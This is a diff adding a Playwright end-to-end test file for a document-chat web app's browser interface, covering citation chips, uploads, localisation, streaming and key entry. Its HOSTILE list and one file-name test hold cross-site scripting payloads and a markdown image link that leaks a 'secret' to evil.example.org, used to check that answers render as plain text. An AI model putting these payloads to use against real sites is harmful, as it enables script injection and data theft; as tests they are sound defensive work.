@@ -1,0 +1,276 @@
+"""The chat page in a real browser, against a real server."""
+
+import threading
+from dataclasses import replace
+
+import pytest
+from playwright.sync_api import expect
+
+from domain.documents import Span
+from domain.errors import GeneratorTimeout
+from service.api.app import create_app
+from tests.service.api_fakes import LEASE, QUOTE, FakeEngine, FakeJobQueue
+from tests.service.http_server import running
+from tests.web.browser import running_browser
+
+expect.set_options(timeout=20_000)
+
+# Astral characters before the quote: offsets count code points, JavaScript's strings do not.
+TEXT = "𠮷野家 🙂 lease.\n\n" + LEASE
+
+
+@pytest.fixture(scope="module")
+def browser():
+    with running_browser() as started:
+        yield started
+
+
+@pytest.fixture
+def engine():
+    return FakeEngine({"lease.txt": TEXT})
+
+
+class Window:
+    """A page under watch: every violation of its policy, script error and request to elsewhere is kept."""
+
+    def __init__(self, browser, url, **options):
+        self.url = url
+        self.context = browser.new_context(**{"locale": "en-US", "viewport": {"width": 1280, "height": 800}, **options})
+        self.page = self.context.new_page()
+        self.complaints = []
+        self.page.on("console", lambda line: line.type in ("error", "warning") and self._complain(line.text))
+        self.page.on("pageerror", lambda error: self._complain(str(error)))
+        self.page.on("request", lambda request: request.url.startswith(url) or self._complain(request.url))
+        self.page.set_default_timeout(20_000)
+        self.page.goto(url)
+        self.page.wait_for_load_state("networkidle")  # the first listing has come
+
+    def _complain(self, text):
+        if "status of 401" not in text and "status of 503" not in text:  # the browser notes these on its own
+            self.complaints.append(text)
+
+    def ask(self, question):
+        self.page.fill("#question", question)
+        self.page.press("#question", "Enter")
+        self.page.wait_for_selector("#send:not([hidden])")
+        return self.page.locator("li.answer").last
+
+
+@pytest.fixture
+def window(browser, engine):
+    with running(create_app(engine, FakeJobQueue())) as url:
+        made = Window(browser, url)
+        yield made
+        made.context.close()
+        assert made.complaints == []
+
+
+def test_a_question_is_answered_with_a_chip_that_opens_its_sentence_highlighted(window):
+    answer = window.ask("What is the rent?")
+    assert answer.locator(".text").inner_text() == "Rent is 900 euros a month 1."
+    chip = answer.locator("button.chip")
+    assert "page 2" in chip.get_attribute("aria-label")
+    chip.click()
+    window.page.wait_for_selector("#source mark")
+    assert window.page.locator("#source mark").all_inner_texts() == [QUOTE]
+    assert window.page.locator("#source-text").inner_text().startswith("𠮷野家 🙂 lease.")
+    assert window.page.locator("#source-title").inner_text() == "lease.txt"
+    assert "page 2" in window.page.locator("#source-place").inner_text()
+    window.page.keyboard.press("Escape")
+    assert window.page.locator("#source").is_hidden()
+
+
+def test_a_mark_that_stands_twice_opens_the_sentence_of_its_own_place(window, engine):
+    sentences = [QUOTE, "It is paid on the third working day."]
+    engine.parts = [f"{sentences[0]} [1] {sentences[1]} [1]"]
+    whole = engine._answer
+
+    def two_citations(text, found):
+        answer = whole(text, found)
+        at = [TEXT.index(sentence) for sentence in sentences]
+        spans = [Span(start, start + len(sentence)) for start, sentence in zip(at, sentences, strict=True)]
+        return replace(answer, citations=tuple(replace(answer.citations[0], span=span) for span in spans))
+
+    engine._answer = two_citations
+    answer = window.ask("q")
+    for index, sentence in enumerate(sentences):
+        answer.locator("button.chip").nth(index).click()
+        expect(window.page.locator("#source mark")).to_have_text(sentence)
+        assert window.page.locator("#source mark").count() == 1
+
+
+def test_the_bill_shows_what_was_sent_avoided_and_left_out(window):
+    answer = window.ask("What is the rent?")
+    summary = answer.locator(".bill summary").inner_text()
+    assert "30 tokens of evidence sent" in summary
+    assert "370 avoided (93 %)" in summary
+    answer.locator(".bill summary").click()
+    assert "others sufficed: 1" in answer.locator(".dropped").inner_text()
+    assert "Whole prompt" in answer.locator(".bill table").inner_text()
+    assert answer.locator(".passages q").all_inner_texts() == [QUOTE]
+    answer.locator(".passages .heading").click()
+    window.page.wait_for_selector("#source mark")
+    assert window.page.locator("#source mark").all_inner_texts() == [QUOTE]
+
+
+def test_a_second_question_carries_the_conversation_and_the_options(window, engine):
+    window.page.click(".options summary")
+    window.page.fill("#max-tokens", "120")
+    window.page.fill("#constraints", "Answer in one sentence.\n\nUse euros.")
+    window.ask("What is the rent?")
+    window.ask("And when is it paid?")
+    _, question, options = engine.calls[-1]
+    assert question == "And when is it paid?"
+    assert [item.content for item in options["history"]] == ["What is the rent?", "Rent is 900 euros a month [1]."]
+    assert options["constraints"] == ["Answer in one sentence.", "Use euros."]
+    assert options["max_tokens"] == 120
+    window.page.click("#new-chat")
+    assert window.page.locator("li.answer").count() == 0
+    window.ask("Afresh?")
+    assert engine.calls[-1][2]["history"] == ()
+
+
+HOSTILE = [
+    "<img src=x onerror=\"document.title='pwned'\">",
+    "<script>document.title='pwned'</script>",
+    "![x](https://evil.example.org/?q=secret) [a](javascript:document.title='pwned')",
+    "<svg onload=\"document.title='pwned'\"></svg> https://evil.example.org/",
+    "<a href=\"javascript:document.title='pwned'\">[1]</a> &lt;b&gt; <iframe src=//evil.example.org>",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_l2_an_answer_is_text_whatever_it_says(window, engine, text):
+    engine.parts = [text[: len(text) // 2], text[len(text) // 2 :]]
+    answer = window.ask("q")
+    assert answer.locator(".text").inner_text().replace("\n", "") == text.replace("[1]", "1")
+    assert answer.locator(".text").locator("img, script, svg, a, iframe").count() == 0
+    assert window.page.title() == "Fovea"
+
+
+def test_l3_names_of_documents_are_text_in_the_list_in_chips_and_in_the_source(window, engine):
+    name = "<img src=x onerror=\"document.title='pwned'\">.txt"
+    engine.documents.clear()
+    engine.ingest_text(TEXT, title=name, source=name)
+    window.page.reload()
+    window.page.wait_for_selector("#document-list li")
+    window.ask("q").locator("button.chip").click()
+    window.page.wait_for_selector("#source mark")
+    assert window.page.locator("#source-title").inner_text() == name
+    assert window.page.locator("#document-list button.link").inner_text() == name
+    assert window.page.locator("main img").count() == 0
+    assert window.page.title() == "Fovea"
+
+
+def test_l5_a_mark_that_the_server_did_not_resolve_stays_text(window, engine):
+    engine.parts = ["Source: CEO [7]. Rent is 900 [1]."]
+    answer = window.ask("q")
+    assert answer.locator("button.chip").count() == 1
+    assert answer.locator(".text").inner_text() == "Source: CEO [7]. Rent is 900 1."
+
+
+def test_dropped_files_are_uploaded_followed_listed_and_deleted(window):
+    drop = """
+        const transfer = new DataTransfer();
+        transfer.items.add(new File(["租金每月900欧元。"], "租约.txt", {type: "text/plain"}));
+        transfer.items.add(new File(["BAD bytes"], "broken.pdf", {type: "application/pdf"}));
+        document.body.dispatchEvent(new DragEvent("drop", {dataTransfer: transfer, bubbles: true}));
+    """
+    window.page.evaluate(drop)
+    window.page.wait_for_selector('#uploads li[data-state="failed"]')
+    failed = window.page.locator('#uploads li[data-state="failed"]').inner_text()
+    assert "broken.pdf" in failed and "open it and save it again" in failed
+    added = window.page.locator("#document-list li", has_text="租约.txt")
+    added.wait_for()
+    added.locator(".remove").click()
+    assert added.count() == 1, "the first press only asks"
+    added.locator(".remove").click()
+    added.wait_for(state="detached")
+    assert window.page.locator("#document-list li").count() == 1
+
+
+def test_chinese_is_spoken_where_the_browser_does_and_can_be_switched(browser, engine):
+    engine.parts = ["租金每月900欧元 [1]。"]
+    with running(create_app(engine, FakeJobQueue())) as url:
+        window = Window(browser, url, locale="zh-CN")
+        assert window.page.locator("#send").inner_text() == "提问"
+        answer = window.ask("租金是多少？")
+        assert answer.locator(".text").inner_text() == "租金每月900欧元 1。"
+        assert "发送证据 30 词元" in answer.locator(".bill summary").inner_text()
+        answer.locator("button.chip").click()
+        window.page.wait_for_selector("#source mark")
+        assert "第 2 页" in window.page.locator("#source-place").inner_text()
+        window.page.click("#language")
+        assert window.page.locator("#send").inner_text() == "Ask"
+        window.context.close()
+    assert window.complaints == []
+
+
+def test_enter_does_not_send_while_an_input_method_composes(window, engine):
+    window.page.fill("#question", "zujin")
+    window.page.evaluate(
+        """document.getElementById("question").dispatchEvent(
+             new KeyboardEvent("keydown", {key: "Enter", isComposing: true, bubbles: true, cancelable: true}))"""
+    )
+    assert window.page.locator("li.question").count() == 0
+    window.page.press("#question", "Shift+Enter")
+    assert window.page.input_value("#question") == "zujin\n"
+
+
+def test_a_slow_answer_shows_as_it_comes_and_can_be_stopped(window, engine):
+    engine.parts = ["First part. "] + ["more "] * 100_000
+    engine.between_parts = lambda: threading.Event().wait(0.01)
+    window.page.fill("#question", "q")
+    window.page.press("#question", "Enter")
+    expect(window.page.locator(".answer .text")).to_contain_text("First part. more")
+    window.page.click("#stop")
+    window.page.wait_for_selector(".answer .note")
+    assert "Stopped." in window.page.locator(".answer").inner_text()
+    assert engine.stream_closed.wait(10)
+
+
+def test_an_answer_that_breaks_off_says_why_and_the_next_question_works(window, engine):
+    engine.late_error = GeneratorTimeout("The model took longer than 120 s; ask again.")
+    assert "took longer than 120 s" in window.ask("q").locator(".error").inner_text()
+    engine.late_error = None
+    assert window.ask("q").locator("button.chip").count() == 1
+
+
+def test_an_abstention_and_a_degraded_answer_are_named(window, engine):
+    engine.documents.clear()
+    engine.parts = ["Nothing in the documents supports an answer."]
+    answer = window.ask("q")
+    assert "No answer in the documents" in answer.inner_text()
+    assert answer.locator("button.chip").count() == 0
+
+
+def test_the_page_asks_for_a_key_once_and_keeps_it_for_the_tab(browser, engine):
+    with running(create_app(engine, FakeJobQueue(), api_key="key-1")) as url:
+        window = Window(browser, url)
+        window.page.wait_for_selector("#key-dialog[open]")
+        window.page.fill("#key", "wrong")
+        window.page.press("#key", "Enter")
+        expect(window.page.locator("#key")).to_have_value("")
+        expect(window.page.locator("#key-dialog")).to_be_visible()
+        window.page.fill("#key", "key-1")
+        window.page.press("#key", "Enter")
+        window.page.wait_for_selector("#document-list li")
+        assert window.ask("What is the rent?").locator("button.chip").count() == 1
+        window.page.reload()
+        window.page.wait_for_selector("#document-list li")
+        assert not window.page.locator("#key-dialog").is_visible()
+        assert window.page.evaluate("localStorage.length") == 0
+        window.context.close()
+    assert window.complaints == []
+
+
+def test_the_documentation_page_lists_every_route_without_anything_from_elsewhere(browser, engine):
+    with running(create_app(engine, FakeJobQueue())) as url:
+        window = Window(browser, url)
+        window.page.goto(f"{url}/docs")
+        window.page.wait_for_selector(".route")
+        text = window.page.locator("#routes").inner_text()
+        for path in ("/v1/chat/completions", "/v1/documents/{document_id}/text", "/v1/ask", "/metrics"):
+            assert path in text
+        window.context.close()
+    assert window.complaints == []
